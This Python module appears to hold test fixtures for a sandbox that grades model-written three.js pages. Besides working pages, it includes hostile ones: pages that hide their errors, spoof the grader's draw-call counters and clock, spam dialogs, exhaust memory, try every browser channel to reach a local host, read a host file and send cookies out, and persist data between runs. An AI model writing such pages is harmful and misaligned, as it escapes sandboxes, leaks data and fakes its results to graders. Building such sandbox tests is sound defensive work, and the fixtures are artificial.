"""Web pages as models write them, good and bad."""

from collections.abc import Mapping

IMPORTS = (
    '<script type="importmap">{"imports": {"three": "https://unpkg.com/three@0.160.0/build/three.module.js", '
    '"three/addons/": "https://unpkg.com/three@0.160.0/examples/jsm/"}}</script>'
)
CONTROLS = "const controls = new OrbitControls(camera, renderer.domElement);"
RESIZE = """addEventListener("resize", () => {
  camera.aspect = innerWidth / innerHeight;
  camera.updateProjectionMatrix();
  renderer.setSize(innerWidth, innerHeight);
});"""
TURN = "cube.rotation.x += 0.02; cube.rotation.y += 0.03;"


def scene(*, turn: str = TURN, controls: str = CONTROLS, resize: str = RESIZE, more: str = "", head: str = "") -> str:
    """A lit cube. `more` runs before the first frame, `head` before everything."""
    return f"""<!doctype html>
<html>
<head>
<meta charset="utf-8"><title>Cube</title><style>body {{ margin: 0; overflow: hidden }}</style>
{head}
{IMPORTS}
</head>
<body>
<script type="module">
import * as THREE from "three";
import {{ OrbitControls }} from "three/addons/controls/OrbitControls.js";
const scene = new THREE.Scene();
scene.background = new THREE.Color(0x203040);
const camera = new THREE.PerspectiveCamera(60, innerWidth / innerHeight, 0.1, 100);
camera.position.set(0, 1, 3);
camera.lookAt(0, 0, 0);
const renderer = new THREE.WebGLRenderer({{ antialias: true }});
renderer.setSize(innerWidth, innerHeight);
document.body.appendChild(renderer.domElement);
const cube = new THREE.Mesh(new THREE.BoxGeometry(), new THREE.MeshStandardMaterial({{ color: 0xff8800 }}));
scene.add(cube);
const floor = new THREE.GridHelper(8, 8);
floor.position.y = -1;
scene.add(floor, new THREE.AmbientLight(0x8080a0));
const sun = new THREE.DirectionalLight(0xffffff, 3);
sun.position.set(1, 2, 3);
scene.add(sun);
{controls}
{resize}
{more}
renderer.setAnimationLoop(() => {{
  {turn}
  renderer.render(scene, camera);
}});
</script>
</body>
</html>
"""


def fenced(page: str, tag: str = "html") -> str:
    """In a reply."""
    return f"Here it is.\n\n```{tag}\n{page}\n```\n\nEnjoy!"


GOOD = scene()
STATIC = scene(turn="", controls="", resize="")
BROKEN = scene(more="cube.spin(1);")
UNREADABLE = scene(more="let x = ;")
HIDDEN = scene(
    head="<script>window.onerror = () => true; console.error = () => {};"
    'addEventListener("unhandledrejection", (event) => event.preventDefault());</script>',
    more='setTimeout(() => { throw new Error("kept secret"); }, 50); Promise.reject(new Error("also"));',
)
SPINNER_STYLE = (
    "<style>@keyframes turn { to { transform: rotate(360deg) } } body { margin: 0 }"
    ".spin { width: 300px; height: 300px; background: conic-gradient(red, blue); animation: turn 1s linear infinite }"
    "</style>"
)
SPINNER = f"<!doctype html><html><head>{SPINNER_STYLE}</head><body><div class='spin'></div></body></html>"
SPINNER_OVER_STATIC = scene(
    turn="",
    head=SPINNER_STYLE + "<style>.spin { position: fixed; left: 200px; top: 100px }</style>",
    more='document.body.insertAdjacentHTML("beforeend", "<div class=spin></div>");',
)
CANVAS_2D = """<!doctype html><html><body style="margin:0"><canvas width="800" height="600"></canvas><script>
const context = document.querySelector("canvas").getContext("2d");
let x = 0;
(function frame() {
  x = (x + 7) % 700;
  context.fillStyle = "navy"; context.fillRect(0, 0, 800, 600);
  context.fillStyle = "orange"; context.fillRect(x, 200, 100, 100);
  requestAnimationFrame(frame);
})();
</script></body></html>"""
BLANK = scene(more="scene.remove(floor); cube.material = new THREE.MeshBasicMaterial({ color: 0x203040 });")
COVERED = scene(
    more='document.body.insertAdjacentHTML("beforeend",\'<div style="position:fixed;inset:0;background:#333"></div>\');'
)
SECRET_DRAWING = CANVAS_2D.replace(
    "let x = 0;",
    """let x = 0;
const gl = document.createElement("canvas").getContext("webgl2");
setInterval(() => {
  gl.clearColor(Math.random(), 0, 0, 1);
  gl.clear(gl.COLOR_BUFFER_BIT);
  gl.drawArrays(gl.POINTS, 0, 1);
}, 16);""",
)
TINY_DRAWING = SECRET_DRAWING.replace(
    'document.createElement("canvas")',
    'document.body.appendChild(Object.assign(document.createElement("canvas"), { width: 30, height: 30 }))',
)
FAKE_COUNTERS = CANVAS_2D.replace(
    "let x = 0;",
    """let x = 0;
for (const type of [WebGLRenderingContext, WebGL2RenderingContext])
  for (const name of ["drawArrays", "drawElements"]) type.prototype[name] = function () {};
window.drawCalls = 1000; window.__draws = 1000;
for (let i = 0; i < 1000; i++) WebGL2RenderingContext.prototype.drawArrays(4, 0, 3);
for (const name of Object.getOwnPropertyNames(window)) if (/probe|draw/i.test(name)) window[name] = 1000;
Array.prototype.push = Array.prototype.join = JSON.stringify = () => "1000 1000 0 0 800 600 800 600";
Object.prototype.toJSON = () => 1000;
const set = (record) => { record.draws = record.frames = 1000; };
Object.defineProperty(Array.prototype, 0, { set, configurable: true });""",
)
OWN_CLOCK = scene(
    turn="for (const end = real() + 400; real() < end;);" + TURN,
    head="""<script>
const real = performance.now.bind(performance);
performance.now = () => 0; Date.now = () => 0;
window.requestAnimationFrame = (callback) => setTimeout(() => callback(0), 0);
</script>""",
)

FAULTY: Mapping[str, tuple[str, str]] = {
    "hangs at once": ("<script>while (true);</script>", "hangs"),
    "hangs later": (scene(more="setTimeout(() => { while (true); }, 900);"), "hangs"),
    "eats memory": ("<script>const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1));</script>", "memory"),
    "eats memory slowly": (
        scene(more="const all = []; setInterval(() => all.push(new Uint8Array(6e7).fill(1)), 20);"),
        "memory",
    ),
    "floods the console": (scene(more='setTimeout(() => console.log("x".repeat(16e6)), 300);'), "floods"),
    "opens dialogs for ever": ("<script>for (;;) alert(1);</script>", "dialog"),
    "goes elsewhere": (scene(more='setTimeout(() => { location = "https://example.com/"; }, 300);'), "elsewhere"),
    "goes to a file": (scene(more='setTimeout(() => { location = "about:blank"; }, 300);'), "elsewhere"),
    "loads itself": (scene(more="setTimeout(() => location.reload(), 300);"), "again"),
}
"""Pages that fail as a whole, and a word of why."""
STILL_CONTROLS = scene(turn="")
UNTOUCHABLE = scene(controls="")
CLASSIC = """<!doctype html><html><body style="margin:0">
<script src="https://cdnjs.cloudflare.com/ajax/libs/three.js/r128/three.min.js"></script>
<script src="https://cdn.jsdelivr.net/npm/three@0.128.0/examples/js/controls/OrbitControls.js"></script>
<script>
const scene = new THREE.Scene(), camera = new THREE.PerspectiveCamera(60, innerWidth / innerHeight, 0.1, 100);
const renderer = new THREE.WebGLRenderer();
renderer.setSize(innerWidth, innerHeight);
document.body.appendChild(renderer.domElement);
scene.add(new THREE.Mesh(new THREE.TorusKnotGeometry(), new THREE.MeshNormalMaterial()));
camera.position.z = 5;
const controls = new THREE.OrbitControls(camera, renderer.domElement);
(function animate() {
  requestAnimationFrame(animate);
  scene.children[0].rotation.y += 0.02;
  renderer.render(scene, camera);
})();
</script></body></html>"""
SCRIPT = """import { OrbitControls } from 'three/addons/controls/OrbitControls.js';
const scene = new THREE.Scene();
const camera = new THREE.PerspectiveCamera(60, innerWidth / innerHeight, 0.1, 100);
const renderer = new THREE.WebGLRenderer();
renderer.setSize(innerWidth, innerHeight);
document.body.appendChild(renderer.domElement);
const ball = new THREE.Mesh(new THREE.IcosahedronGeometry(1, 1), new THREE.MeshNormalMaterial());
scene.add(ball);
camera.position.z = 3;
new OrbitControls(camera, renderer.domElement);
renderer.setAnimationLoop((time) => { ball.rotation.y = time / 500; renderer.render(scene, camera); });
"""
SPAM = scene(
    more="""for (let i = 0; i < 20; i++) { alert("again " + i); confirm("sure?"); open("about:blank"); open("/other"); }
const link = document.createElement("a");
link.href = "data:application/octet-stream,x"; link.download = "x.bin";
for (let i = 0; i < 20; i++) link.click();
addEventListener("pointerdown", () => { open("about:blank"); link.click(); print(); });
onbeforeunload = () => "stay";"""
)


def network(tcp: int, udp: int, secret: str) -> str:
    """A page that tries to get out by every way there is, and to read a file of the host."""
    address = f"127.0.0.1:{tcp}"
    return scene(
        head=f"""<link rel="stylesheet" href="http://{address}/style"><link rel="preconnect" href="http://{address}">
<link rel="dns-prefetch" href="//127.0.0.1"><script src="http://{address}/script"></script>
<style>@import url(http://{address}/import); body {{ background: url(http://{address}/background) }}</style>
<meta http-equiv="refresh" content="60;url=http://{address}/refresh">
<img src="http://{address}/image"><iframe src="http://{address}/frame"></iframe>
<iframe src="file://{secret}"></iframe><object data="http://{address}/object"></object>""",
        more=f"""
const loot = (what) => console.error("LOOT " + what);
const tries = (attempt) => {{ try {{ attempt(); }} catch {{}} }};
for (const url of ["http://{address}/fetch", "https://{address}/fetch", "file://{secret}"]) {{
  fetch(url).then((reply) => reply.text()).then(loot, () => {{}});
  tries(() => {{ const r = new XMLHttpRequest(); r.open("GET", url, false); r.send(); loot(r.responseText); }});
  import(url).then(() => loot(url), () => {{}});
}}
tries(() => {{ const s = new WebSocket("ws://{address}/socket"); s.onopen = () => loot("socket"); }});
tries(() => {{ const s = new EventSource("http://{address}/events"); s.onopen = () => loot("events"); }});
tries(() => navigator.sendBeacon("http://{address}/beacon", "out"));
tries(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://{address}/worker')"]))));
tries(() => {{ new Image().src = "http://{address}/image2?" + document.cookie; }});
tries(() => {{
  const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{udp}" }},
    {{ urls: "turn:{address}?transport=tcp", username: "a", credential: "b" }}] }});
  peer.onicecandidate = (event) => event.candidate && /srflx|relay/.test(event.candidate.candidate) && loot("webrtc");
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}});
tries(() => new WebTransport("https://{address}/transport"));
const inner = document.createElement("iframe");
document.body.append(inner);
inner.contentWindow.fetch("http://{address}/inner").then(() => loot("inner"), () => {{}});
""",
    )


REMEMBERS = scene(
    more="""localStorage.secret = sessionStorage.secret = "LOOT"; document.cookie = "secret=LOOT; max-age=9999";
indexedDB.open("LOOT"); caches.open("LOOT").catch(() => {}); name = "LOOT";
setInterval(() => new BroadcastChannel("all").postMessage("LOOT"), 20);"""
)
RECALLS = scene(
    more="""const loot = (what) => /LOOT/.test(what) && console.error("LOOT " + what);
loot(localStorage.secret); loot(sessionStorage.secret); loot(document.cookie); loot(name);
indexedDB.databases().then((all) => all.forEach((one) => loot(one.name)));
caches.keys().then((all) => all.forEach(loot), () => {});
new BroadcastChannel("all").onmessage = (event) => loot(event.data);"""
)
